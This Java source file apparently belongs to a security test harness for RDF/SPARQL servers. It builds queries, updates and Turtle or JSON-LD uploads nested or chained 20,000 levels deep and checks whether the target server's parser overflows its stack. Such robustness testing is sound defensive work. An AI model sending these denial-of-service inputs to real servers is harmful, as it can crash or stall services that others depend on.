package org.rungwork.attack;

import java.util.Collections;
import java.util.List;

/** What is nested too deeply overflows a stack: an error of the server, or no answer. */
final class ParsingAttacks {

    private static final int DEEP = 20_000;

    private ParsingAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.open(
                        "brackets in a query",
                        (victim, bait) -> victim.query("SELECT * { FILTER(" + nested("(", "1", ")") + ") }")
                                .overflows()),
                Attack.open(
                        "groups in a query",
                        (victim, bait) ->
                                victim.query("SELECT * " + nested("{", "", "}")).overflows()),
                Attack.open(
                        "a chain of ORs",
                        (victim, bait) -> victim.query("ASK { FILTER(" + chain("false", " || ") + ") }")
                                .overflows()),
                Attack.open(
                        "a chain of UNIONs",
                        (victim, bait) -> victim.query("SELECT * { " + chain("{ ?s a ?o }", " UNION ") + " }")
                                .overflows()),
                Attack.open(
                        "a long sum",
                        (victim, bait) -> victim.query("SELECT (" + chain("1", " + ") + " AS ?x) {}")
                                .overflows()),
                Attack.open(
                        "a long property path",
                        (victim, bait) -> victim.query("SELECT * { <urn:s> " + chain("<urn:p>", "/") + " ?o }")
                                .overflows()),
                Attack.open(
                        "groups in an update",
                        (victim, bait) -> victim.update("INSERT { GRAPH <" + Victim.GRAPH
                                        + "> { <urn:s> <urn:p> 1 } } WHERE " + nested("{", "", "}"))
                                .overflows()),
                Attack.open(
                        "blank nodes in Turtle",
                        (victim, bait) ->
                                put(victim, "text/turtle", "<urn:s> <urn:p> " + nested("[ <urn:p> ", "1", "]") + " .")),
                Attack.open(
                        "lists in Turtle",
                        (victim, bait) ->
                                put(victim, "text/turtle", "<urn:s> <urn:p> " + nested("(", "1", ")") + " .")),
                Attack.open(
                        "objects in JSON-LD",
                        (victim, bait) -> put(
                                victim,
                                "application/ld+json",
                                "{\"@id\":\"urn:s\",\"urn:p\":" + nested("{\"urn:p\":", "1", "}") + "}")));
    }

    private static boolean put(Victim victim, String contentType, String text) {
        return victim.put(contentType, ReachingAttacks.bytes(text)).overflows();
    }

    private static String nested(String open, String inner, String close) {
        return open.repeat(DEEP) + inner + close.repeat(DEEP);
    }

    private static String chain(String link, String between) {
        return String.join(between, Collections.nCopies(DEEP, link));
    }
}
